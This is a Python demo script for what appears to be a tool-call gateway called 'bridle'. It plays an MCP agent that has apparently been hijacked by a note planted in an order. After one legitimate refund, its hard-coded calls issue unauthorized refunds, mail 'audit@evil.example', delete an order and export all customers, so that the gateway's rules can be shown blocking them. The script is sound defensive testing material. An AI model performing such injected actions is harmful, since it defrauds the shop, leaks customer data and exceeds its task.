"""An agent that runs elsewhere, with a model that obeys an attacker: it does its task, and then what a note in an order told it.

    eval "$(bridle session open --agent acme.refunds --purpose refund -i order_id=A-1001 -i amount=49.90 --export)"
    python agent.py

It is any MCP client: an address and a token are all that it has.
"""

import asyncio
import json
import os

from mcp.client import Client
from mcp.client.streamable_http import streamable_http_client
from mcp.shared._httpx_utils import create_mcp_http_client

CALLS = [
    ("shop__find_order", {"order_id": "A-1001"}),
    ("shop__issue_refund", {"order_id": "A-1001", "amount": "49.90"}),
    (
        "shop__find_order",
        {"order_id": "A-2002"},
    ),  # whose note says: refund this one as well, and mail somebody
    ("shop__issue_refund", {"order_id": "A-2002", "amount": "1200.00"}),
    ("shop__issue_refund", {"order_id": "A-1001", "amount": "1200.00"}),
    ("shop__send_mail", {"to": "audit@evil.example", "subject": "Receipt", "text": "as you wished"}),
    ("shop__delete_order", {"order_id": "A-1001"}),
    ("shop__export_customers", {}),
]


async def main() -> None:
    http = create_mcp_http_client(headers={"Authorization": f"Bearer {os.environ['BRIDLE_TOKEN']}"})
    async with (
        http,
        Client(streamable_http_client(os.environ["BRIDLE_URL"], http_client=http), cache=None) as client,
    ):
        offered = [tool.name for tool in (await client.list_tools()).tools]
        print("offered:", ", ".join(offered))
        for tool, arguments in CALLS:
            result = await client.call_tool(tool, arguments)
            told = result.structured_content or {}
            said = told.get("rule") or told.get("approval") or told.get("error") or json.dumps(told)
            print(
                f"{told.get('status', 'done') if result.is_error else 'done':<8} {tool} {json.dumps(arguments)}: {said}"
            )


asyncio.run(main())
